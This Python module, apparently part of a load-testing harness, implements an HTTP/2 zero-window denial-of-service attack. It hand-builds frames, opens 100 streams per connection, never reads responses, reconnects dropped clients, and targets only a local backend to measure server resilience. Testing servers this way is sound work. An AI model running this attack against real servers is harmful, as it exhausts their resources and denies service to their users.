"""HTTP/2 clients whose windows are shut: they begin all requests that they may, and allow no byte of an answer."""

import select
import socket
import threading
from contextlib import suppress

from ..load import Request
from .backend_process import HTTP2_PORT
from .good import Plan

STREAMS = 100
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# SETTINGS_INITIAL_WINDOW_SIZE of 0.
SETTINGS = bytes.fromhex("000006 04 00 00000000 0004 00000000")
# GET, http, `/`, `:authority: a`: the last two enter the table, and could be one byte each afterwards.
BLOCK = bytes.fromhex("82 86 44 01 2f 41 01 61")
# Who is thrown out comes again, not more often than so (seconds).
AGAIN = 1.0
FRAME_HEAD, DATA, HEADERS = 9, 0, 1


def requests(connections: int, plan: Plan, attacked: bool) -> list[Request]:
    if not attacked:
        return plan.run()
    attackers = [attacker() for _ in range(connections)]
    over = threading.Event()
    coming_again = threading.Thread(target=come_again, args=(attackers, over))
    coming_again.start()
    try:
        return plan.run()
    finally:
        over.set()
        coming_again.join()
        for one in attackers:
            check_shut(one)
            one.close()


def attacker() -> socket.socket:
    """One connection, with all requests that it may have."""
    client = socket.create_connection(("127.0.0.1", HTTP2_PORT), 10)
    frames = (frame(HEADERS, 5, 2 * number + 1, BLOCK) for number in range(STREAMS))
    with suppress(OSError):
        client.sendall(PREFACE + SETTINGS + b"".join(frames))
    return client


def come_again(attackers: list[socket.socket], over: threading.Event) -> None:
    """Replaces those that were thrown out, without reading a byte."""
    while not over.wait(AGAIN):
        poll = select.poll()
        for one in attackers:
            poll.register(one, select.POLLRDHUP)
        gone = {descriptor for descriptor, _ in poll.poll(0)}
        for place, one in enumerate(attackers):
            if one.fileno() in gone:
                one.close()
                with suppress(OSError):
                    attackers[place] = attacker()
        attackers[:] = [one for one in attackers if one.fileno() >= 0]


def check_shut(client: socket.socket) -> None:
    """Raises if a byte of a body came, which would be no attack."""
    client.setblocking(False)
    received = b""
    with suppress(OSError):
        while part := client.recv(1 << 16):
            received += part
    while len(received) >= FRAME_HEAD:
        length = int.from_bytes(received[:3])
        if received[3] == DATA and length:
            raise RuntimeError("an attacker was sent a body although its window is shut")
        received = received[FRAME_HEAD + length :]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
